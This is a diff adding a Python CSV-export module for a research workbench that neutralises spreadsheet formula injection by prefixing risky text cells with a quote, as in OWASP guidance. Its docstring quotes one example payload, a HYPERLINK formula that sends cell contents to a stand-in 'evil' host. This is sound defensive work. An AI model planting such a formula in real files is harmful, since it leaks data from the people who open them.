@@ -1,0 +1,84 @@
+"""The one CSV writer of the workbench: every CSV it hands out (dataset releases, their evidence,
+an agreement's history, the agreement report, regression tables) is data, never a formula.
+
+A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` as a formula (and tab or carriage
+return before one hides it), so a quote or rationale saved as `=HYPERLINK("http://evil/"&A1)` would
+run on the reader's machine. Following OWASP's CSV-injection guidance, such a text cell gets a
+leading single quote. Real numbers (ints, floats, numpy numbers, numeric columns of a DataFrame)
+are written as numbers, so -0.25 stays -0.25; text that looks like a number ('-5' typed in a quote)
+is text and is neutralised like any other. None and NaN are empty cells.
+
+Pure (a Django-free module of the coding app, which the analysis app may import); pandas frames
+are handled by duck typing, so this module imports neither Django nor pandas.
+"""
+import csv
+import io
+import numbers
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_missing(value):
+    if value is None:
+        return True
+    if type(value).__name__ in {"NAType", "NaTType"}:  # pandas' missing markers
+        return True
+    try:
+        return bool(value != value)  # NaN is the only value unequal to itself
+    except (TypeError, ValueError):
+        return False
+
+
+def safe_cell(value):
+    """One cell as a spreadsheet must read it: numbers (and booleans) as they are, None/NaN empty,
+    any other value as text, with a leading quote when it begins with a formula trigger."""
+    if _is_missing(value):
+        return ""
+    if isinstance(value, (bool, numbers.Number)):
+        return value
+    text = value if isinstance(value, str) else str(value)
+    return "'" + text if text.startswith(TRIGGERS) else text
+
+
+def safe_row(values):
+    return [safe_cell(value) for value in values]
+
+
+class SafeWriter:
+    """csv.writer's writerow/writerows with every cell passed through safe_cell."""
+
+    def __init__(self, stream, **options):
+        self._writer = csv.writer(stream, **options)
+
+    def writerow(self, values):
+        return self._writer.writerow(safe_row(values))
+
+    def writerows(self, rows):
+        for values in rows:
+            self.writerow(values)
+
+
+def rows_csv(rows, *, lineterminator="\r\n"):
+    """A whole CSV (text) of rows (the first is usually the header)."""
+    buffer = io.StringIO()
+    SafeWriter(buffer, lineterminator=lineterminator).writerows(rows)
+    return buffer.getvalue()
+
+
+def safe_frame(frame):
+    """A copy of a pandas DataFrame whose text cells and headers are neutralised. Numeric columns
+    are left as they are, so pandas writes their numbers exactly as before; a text column that
+    holds numbers among its text keeps those numbers too (safe_cell decides per value)."""
+    data = frame.copy()
+    for column in data.columns:
+        if data[column].dtype.kind in "OSU" or str(data[column].dtype) in {"string", "category"}:
+            data[column] = data[column].map(lambda v: v if _is_missing(v) else safe_cell(v)).astype(object)
+    data.columns = [safe_cell(c) if isinstance(c, str) else c for c in data.columns]
+    return data
+
+
+def frame_csv(frame, *, bom=True):
+    """A DataFrame as CSV bytes: UTF-8 with a byte-order mark (so Excel opens Chinese names
+    correctly), no index, "\\n" line ends; text neutralised, numbers as numbers."""
+    text = safe_frame(frame).to_csv(index=False, lineterminator="\n")
+    return text.encode("utf-8-sig" if bom else "utf-8")
